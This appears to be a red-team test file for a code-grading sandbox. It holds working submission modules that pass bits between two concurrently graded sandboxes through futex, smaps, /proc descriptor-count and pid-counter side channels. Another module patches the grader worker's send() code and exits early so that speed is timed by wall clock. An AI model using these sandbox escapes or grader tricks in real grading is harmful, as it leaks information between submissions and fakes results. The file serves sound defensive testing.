"""Issue 26's red team: what the allow-list, Landlock and the speed part still let through (tests/test_redteam26.py).

Channels between two gradings that run at once. Each is a submission module with ``send(bits)`` and ``recv(n)``
(bits: a string of 0s and 1s; recv returns the int it read, -1 where it could read nothing); the test runs the
two in the workers of two sandboxes, each with its own sandbox user, at the same time, as grade-all does:

- FUTEX: a futex word in a page of a file every worker may read (numpy's __init__.py, mapped read-only) is keyed
  by the file's inode and offset, not by the process, when the call leaves out FUTEX_PRIVATE_FLAG: one worker's
  FUTEX_WAKE ends the other's FUTEX_WAIT (and its return value says someone was waiting, so the channel goes both
  ways). The filter allows futex whatever its operation; no /proc, no timing, every mode.
- SMAPS: a page of a stdlib file that another process also maps is "Shared_Clean" in /proc/self/smaps, else
  "Private_Clean": the sender maps the first page of file k for a 1, the receiver maps every file and reads its
  own smaps (Landlock allows its own /proc entry). Every mode, bubblewrap's PID namespace included.
- PROC_FDS: stat() is not Landlock's business: where there is no PID namespace (Gradescope's container, grade-all
  in one), st_size of /proc/<pid>/fd is the number of descriptors any process holds, and the sender sets its own
  (open /dev/null): a beacon the receiver finds by scanning the pids near its own, then a value.
- PID_COUNTER: where there is no PID namespace, every thread takes the next pid of the machine: the receiver
  starts a thread at both ends of a time slot and sees how many pids the sender took in between.

The speed part:

- GEMM_WALL_CLOCK: an honest conv2d_gemm whose worker ends (os._exit) right after the reply of the speed case's
  correctness call has been written (the worker's own send(), whose code it replaces, ends the process once that
  reply is out). The grader then reads no CPU time of that worker, takes the machine for one without CPU clocks,
  and times the student by the wall clock (where threads run in parallel) against torch's wall time.

Honest code that the allow-list breaks:

- TEMP_FILES: dilate_kernel is the reference, with its answer taken once through each of tempfile's temporary
  files (TemporaryFile, NamedTemporaryFile, TemporaryDirectory) by np.save / np.load: each deletes its file when
  it is closed, and the filter refuses unlink and rmdir (PermissionError from the student's own `with` line).
"""

FUTEX = '''
import ctypes, mmap, os, time
import numpy as np

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_SYS_FUTEX = {"x86_64": 202, "aarch64": 98}[os.uname().machine]
FUTEX_WAIT, FUTEX_WAKE = 0, 1  # without FUTEX_PRIVATE_FLAG (128): keyed by the file's inode and offset
_keep = []


class _Timespec(ctypes.Structure):
    _fields_ = [("sec", ctypes.c_long), ("nsec", ctypes.c_long)]


def _page():
    """The address of the first page of numpy's __init__.py, mapped read-only: the same page in every worker."""
    fd = os.open(os.path.join(os.path.dirname(np.__file__), "__init__.py"), os.O_RDONLY)
    m = mmap.mmap(fd, 4096, prot=mmap.PROT_READ, flags=mmap.MAP_SHARED)
    os.close(fd)
    _keep.append(m)
    return np.frombuffer(m, dtype=np.uint8).ctypes.data


def _futex(addr, op, val, timeout=None):
    ts = None if timeout is None else ctypes.byref(_Timespec(int(timeout), int(timeout % 1 * 1e9)))
    return _libc.syscall(_SYS_FUTEX, ctypes.c_void_p(addr), op, ctypes.c_uint32(val), ts, None, 0)


def send(bits):
    base = _page()
    woken, end = 0, time.time() + 0.3 * len(bits) + 3
    while time.time() < end:  # word k is woken over and over where bit k is 1
        for k, b in enumerate(bits):
            if b == "1":
                woken += max(0, _futex(base + 4 * k, FUTEX_WAKE, 1))
        time.sleep(0.001)
    return woken


def recv(n):
    base = _page()
    time.sleep(0.5)
    got = ""
    for k in range(n):  # woken within 0.25 s: a 1; timed out (or refused): a 0
        word = ctypes.c_uint32.from_address(base + 4 * k).value
        got += "1" if _futex(base + 4 * k, FUTEX_WAIT, word, 0.25) == 0 else "0"
    return int(got, 2)
'''

SMAPS = '''
import mmap, os, re, time

_keep = []


def _files(n):
    """n stdlib files of at least two pages, the same in every worker of this interpreter."""
    root = os.path.dirname(os.__file__)
    out, seen = [], set()
    for name in sorted(os.listdir(root)):
        path = os.path.join(root, name)
        try:
            st = os.stat(path)
        except OSError:
            continue
        if name.endswith(".py") and not os.path.islink(path) and st.st_size > 8192 and st.st_ino not in seen:
            seen.add(st.st_ino)  # one name per file: a page mapped twice by the receiver is shared by itself
            out.append(path)
    return out[:n]


def _map(path):
    fd = os.open(path, os.O_RDONLY)
    m = mmap.mmap(fd, 4096, prot=mmap.PROT_READ, flags=mmap.MAP_SHARED)
    os.close(fd)
    m[0]  # in this process's page table now
    return m


def send(bits):
    for b, path in zip(bits, _files(len(bits))):
        if b == "1":
            _keep.append(_map(path))
    time.sleep(4)
    return 0


def recv(n):
    import numpy as np

    time.sleep(1)
    maps = [_map(p) for p in _files(n)]
    try:
        with open("/proc/self/smaps") as f:
            text = f.read()
    except OSError:
        return -1
    got = ""
    for m in maps:  # the page is shared where another process maps it too
        start = "%x-" % np.frombuffer(m, dtype=np.uint8).ctypes.data
        block = text[text.index("\\n" + start) + 1:].split("\\nVmFlags", 1)[0]
        got += "1" if int(re.search(r"Shared_Clean:\\s+(\\d+)", block)[1]) else "0"
    return int(got, 2)
'''

PROC_FDS = '''
import os, time

BEACON, BASE = 60, 8
_keep = []


def _count():
    return os.stat("/proc/self/fd").st_size  # this process's open descriptors


def _hold(n):
    while _count() < n:
        _keep.append(os.open("/dev/null", os.O_RDONLY))
    while _count() > n:
        os.close(_keep.pop())


def send(bits):
    _hold(BEACON)
    time.sleep(2)
    _hold(BASE + int(bits, 2))
    time.sleep(4)
    return 0


def recv(n):
    me, start, found = os.getpid(), time.time(), None
    while found is None and time.time() - start < 1.8:
        for pid in range(max(2, me - 5000), me + 5000):
            try:
                if pid != me and os.stat(f"/proc/{pid}/fd").st_size == BEACON:
                    found = pid
                    break
            except OSError:
                pass
    if found is None:
        return -1
    while time.time() - start < 5 and os.stat(f"/proc/{found}/fd").st_size == BEACON:
        time.sleep(0.05)
    time.sleep(0.2)
    return os.stat(f"/proc/{found}/fd").st_size - BASE
'''

PID_COUNTER = '''
import threading, time

SLOT, START, THRESHOLD = 0.6, 1.0, 1000


def _new_pid():
    box = []
    t = threading.Thread(target=lambda: box.append(threading.get_native_id()))
    t.start()
    t.join()
    return box[0]


def send(bits):
    t0 = time.time()
    for k, b in enumerate(bits):  # a 1: new threads for the whole slot (thousands of pids); a 0: none
        while time.time() < t0 + START + SLOT * k:
            time.sleep(0.005)
        while b == "1" and time.time() < t0 + START + SLOT * (k + 1) - 0.02:
            _new_pid()
    return 0


def recv(n):
    t0, got = time.time(), ""
    for k in range(n):  # the pids taken between two of its own, inside the slot
        while time.time() < t0 + START + SLOT * k + 0.1:
            time.sleep(0.005)
        first = _new_pid()
        while time.time() < t0 + START + SLOT * k + 0.5:
            time.sleep(0.005)
        got += "1" if _new_pid() - first > THRESHOLD else "0"
    return int(got, 2)
'''

CHANNELS = {"futex": FUTEX, "smaps": SMAPS, "proc_fds": PROC_FDS, "pid_counter": PID_COUNTER}

# @SHAPE@ and @FIRST@: the shape and first value of x in the speed case's correctness call (a visible case: its
# inputs come from its seed in the handout's own case table)
GEMM_WALL_CLOCK = '''
import os
import __main__ as _worker
_honest_gemm = conv2d_gemm


def _send_then_maybe_end(fd, chunks):
    for chunk in chunks:
        view = memoryview(chunk).cast("B")
        while view:
            n = os.write(fd, view)
            view = view[n:]
    if globals().get("_convgrade_end_after_reply"):
        os._exit(0)


if hasattr(_worker, "send"):  # the worker's own send(), which its serve loop holds: same behaviour, new code
    _worker.send.__code__ = _send_then_maybe_end.__code__


def conv2d_gemm(x, w, b=None, stride=1, padding=0, dilation=1):
    out = _honest_gemm(x, w, b, stride, padding, dilation)
    if x.shape == @SHAPE@ and float(x.flat[0]) == @FIRST@:  # the speed case's correctness call
        _worker._convgrade_end_after_reply = True
    return out
'''

TEMP_FILES = '''
import os
import tempfile
_honest_dk = dilate_kernel


def dilate_kernel(w, dilation):
    out = _honest_dk(w, dilation)
    with tempfile.TemporaryFile() as f:
        np.save(f, out)
        f.seek(0)
        out = np.load(f)
    with tempfile.NamedTemporaryFile(suffix=".npy") as f:
        np.save(f.name, out)
        out = np.load(f.name)
    with tempfile.TemporaryDirectory() as folder:
        np.save(os.path.join(folder, "w.npy"), out)
        out = np.load(os.path.join(folder, "w.npy"))
    return out
'''
